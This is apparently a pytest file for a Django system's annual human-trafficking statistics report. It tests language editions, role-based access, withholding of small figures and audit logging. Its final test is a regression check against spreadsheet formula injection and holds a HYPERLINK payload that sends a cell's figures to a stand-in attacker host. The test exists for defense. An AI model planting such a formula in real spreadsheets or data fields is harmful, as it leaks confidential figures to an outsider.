"""The national annual report: PDF and XLSX in each language, the internal edition for the Main
Department's supervisors only, the public one with small figures withheld; every download audited."""
import datetime
import io
import subprocess

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from nicat.accounts.models import Role
from nicat.audit.models import AuditEvent
from nicat.cases.models import TraffickingStatus
from tests.support.world import make_user, term

TITLES = {"az": "illik", "ru": "ежегодный", "en": "annual report"}


def build_world(cast):
    """14 men recognised in 2025 (12 forced labour, 2 organ removal) and a supervisor of the competent
    authority (`md_supervisor`)."""
    for i in range(14):
        case = cast.open_case(first_contact_at=timezone.make_aware(datetime.datetime(2025, 2, 1 + i, 10)))
        case.trafficking_status = TraffickingStatus.ACTUAL
        case.status_decided_on = datetime.date(2025, 6, 1)
        case.save()
        case.exploitation_forms.add(term("exploitation", "forced_labour" if i < 12 else "organ_removal"))
        person = case.person
        person.gender = term("gender", "masculine")
        person.birth_date = datetime.date(1990, 1, 1)
        person.save()
    cast.md_supervisor = make_user("md.supervisor", cast.main_department, Role.SUPERVISOR)
    cast.main_department.is_competent_authority = True
    cast.main_department.save()
    return cast


@pytest.fixture
def world(cast):
    return build_world(cast)


def _xlsx_text(content):
    wb = load_workbook(io.BytesIO(content))
    return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None)


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["az", "ru", "en"])
def test_the_supervisor_downloads_the_internal_report_in_each_language(world, client, language):
    client.force_login(world.md_supervisor)
    url = reverse("statistics:annual_report")
    pdf = client.get(url, {"year": 2025, "language": language, "edition": "internal", "format": "pdf"})
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF") and "attachment" in pdf["Content-Disposition"]
    xlsx = client.get(url, {"year": 2025, "language": language, "edition": "internal", "format": "xlsx"})
    text = _xlsx_text(xlsx.content)
    assert TITLES[language] in text.lower()
    # Exact figures: 12 forced labour, 2 organ removal, 14 men recognised in 2025.
    lines = text.splitlines()
    assert "12" in lines and "2" in lines and "14" in lines
    events = AuditEvent.objects.filter(action="statistics.annual_report", actor_id=world.md_supervisor.pk)
    assert {e.details["format"] for e in events} == {"pdf", "xlsx"}
    assert all(e.details["edition"] == "internal" and e.details["language"] == language for e in events)


@pytest.mark.django_db
def test_the_analyst_gets_only_the_public_edition_with_small_figures_withheld(world, client):
    client.force_login(world.analyst)
    url = reverse("statistics:annual_report")
    refused = client.get(url, {"year": 2025, "language": "en", "edition": "internal", "format": "xlsx"})
    assert refused["Content-Type"].startswith("text/html") and "Select a valid choice" in refused.content.decode()
    public = client.get(url, {"year": 2025, "language": "en", "edition": "public", "format": "xlsx"})
    text = _xlsx_text(public.content)
    assert "fewer than 11" in text
    lines = text.splitlines()
    assert "2" not in lines  # the two organ-removal cases are withheld
    assert "14" in lines  # the recognised men in total stay


@pytest.mark.django_db
def test_case_workers_get_no_report(world, client):
    client.force_login(world.worker)
    assert client.get(reverse("statistics:annual_report")).status_code == 403


@pytest.mark.django_db
def test_the_command_writes_both_files(world, tmp_path):
    out = io.StringIO()
    call_command("report", "annual", "--year", "2025", "--language", "ru", "--output", str(tmp_path), stdout=out)
    pdf, xlsx = tmp_path / "annual-report-2025-ru.pdf", tmp_path / "annual-report-2025-ru.xlsx"
    assert pdf.read_bytes().startswith(b"%PDF") and "ежегодный" in _xlsx_text(xlsx.read_bytes()).lower()
    try:
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    except FileNotFoundError:
        return  # poppler-utils not installed: the PDF's text is not read here
    assert "Торговля людьми" in text or "торговл" in text.lower()


@pytest.mark.django_db
def test_a_label_that_looks_like_a_formula_is_text_in_the_workbook(world, client):
    """Formula injection (review 2): a vocabulary label is typed by an administrator; in the annual report's
    XLSX openpyxl wrote a label starting with `=` as a live formula, which the spreadsheet ran when the
    supervisor opened the file (a HYPERLINK that sends the sheet's figures away). It is text now."""
    from nicat.vocab.models import Term

    payload = '=HYPERLINK("http://evil.example/?"&B5,"Forced labour")'
    Term.objects.filter(vocabulary="exploitation", code="forced_labour").update(label_en=payload)
    client.force_login(world.md_supervisor)
    xlsx = client.get(reverse("statistics:annual_report"),
                      {"year": 2025, "language": "en", "edition": "internal", "format": "xlsx"})
    assert xlsx.status_code == 200
    cells = [c for ws in load_workbook(io.BytesIO(xlsx.content)).worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "the workbook holds a formula"
    assert "'" + payload in [c.value for c in cells]  # still readable, as text
